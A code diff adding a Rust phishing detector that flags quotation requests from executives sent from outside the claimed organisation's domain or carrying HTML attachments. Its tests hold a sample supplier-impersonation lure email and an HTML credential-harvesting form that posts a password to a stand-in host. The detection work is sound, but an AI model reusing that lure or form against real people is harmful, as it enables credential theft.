@@ -1,0 +1,98 @@
+//! Somebody of rank asks a stranger for a quotation.
+//!
+//! # What it sees
+//!
+//! A request for quotation, an order or a tender, signed by a person with a title (or in an organisation's name),
+//! from an address that the organisation does not own, or with an HTML page attached.
+//!
+//! # Why it matters
+//!
+//! This is how chosen members of a supply chain were approached: an executive of a real supplier, a plausible
+//! project, and an attachment that asks for the reader's password. There is no link and no threat to notice.
+//!
+//! # When it stays quiet
+//!
+//! When the person writes from the organisation's own domain and attaches nothing that opens in a browser: that is
+//! how business is done.
+
+use crate::detector::Detector;
+use crate::exhibit::{Exhibit, Standing};
+use creel_evidence::mail::Authenticated;
+use creel_evidence::text::inert;
+use creel_evidence::verdict::{Action, Lure};
+use creel_evidence::{Confidence, Finding, Severity};
+
+/// See the file's documentation.
+pub static DETECTOR: Detector = Detector {
+    name: "executive-rfq",
+    summary: "A person of rank, or an organisation, asks for a quotation from an address that is not the organisation's.",
+    technique: None,
+    attack: &["T1684.001"],
+    run,
+};
+
+fn run(exhibit: &Exhibit<'_>) -> Vec<Finding> {
+    let Some(claim) = exhibit.claim.as_ref().filter(|_| exhibit.lure == Lure::BusinessRfq) else {
+        return Vec::new();
+    };
+    let foreign = matches!(exhibit.standing, Standing::Elsewhere | Standing::FreeMail);
+    let forged = exhibit.standing == Standing::Own && exhibit.authenticated == Authenticated::Fail;
+    let page = exhibit.action.kind == Action::HtmlAttachment;
+    if !(foreign || forged || page) {
+        return Vec::new();
+    }
+    let Some(at) = claim.at.first().cloned().or_else(|| exhibit.quote_from()) else { return Vec::new() };
+    let who = match (&claim.person, &claim.title) {
+        (Some(person), Some(title)) => format!("{person}, {title}"),
+        (Some(person), None) => person.clone(),
+        (None, Some(title)) => title.clone(),
+        (None, None) => claim.name.clone(),
+    };
+    let but = match (page, foreign) {
+        (true, _) => "attaches a page that opens in the browser",
+        (_, true) => "does not write from the organisation's own domain",
+        _ => "the sending domain did not authenticate",
+    };
+    let severity = if page || forged || claim.title.is_some() { Severity::High } else { Severity::Medium };
+    let reason = format!("{} of {} asks for a quotation, but {but}", inert(&who), inert(&claim.name));
+    vec![DETECTOR.sees(exhibit, severity, Confidence::Moderate).at(at).because(reason)]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::DETECTOR;
+    use crate::trial::{hit, plain, quiet, with_file};
+
+    const REQUEST: &str = "Dear Sir or Madam,\n\nRequest for quotation: please quote your best price for 500 vaccine \
+        refrigerators as in the attached RFQ.\n\nKind regards,\nEdgar Wolff\nDirector of Procurement\nNorthlight Biomedical Ltd";
+
+    #[test]
+    fn hit_an_executive_who_writes_from_a_free_mailbox() {
+        let header = "From: Edgar Wolff <edgar.wolff.office@gmail.com>\nSubject: RFQ - refrigerators, request for quotation";
+        hit(&DETECTOR, &plain(header, REQUEST));
+    }
+
+    #[test]
+    fn hit_a_request_with_a_page_attached() {
+        let header = "From: Edgar Wolff <edgar.wolff@northlightbiomedical.example>\nSubject: RFQ - request for quotation";
+        let page = "<html><body><form action=https://collect.test/a><input name=mail><input type=password></form></body></html>";
+        hit(&DETECTOR, &with_file(header, REQUEST, "RFQ.html", "text/html", page));
+    }
+
+    #[test]
+    fn miss_another_story() {
+        quiet(
+            &DETECTOR,
+            &plain(
+                "From: Edgar Wolff <e.wolff@gmail.com>\nSubject: Sunday",
+                "Shall we meet on Sunday? Edgar",
+            ),
+        );
+    }
+
+    #[test]
+    fn twin_a_buyer_at_the_companys_own_domain() {
+        let header = "From: Edgar Wolff <edgar.wolff@northlightbiomedical.example>\nSubject: RFQ - request for quotation";
+        quiet(&DETECTOR, &plain(header, REQUEST));
+    }
+}
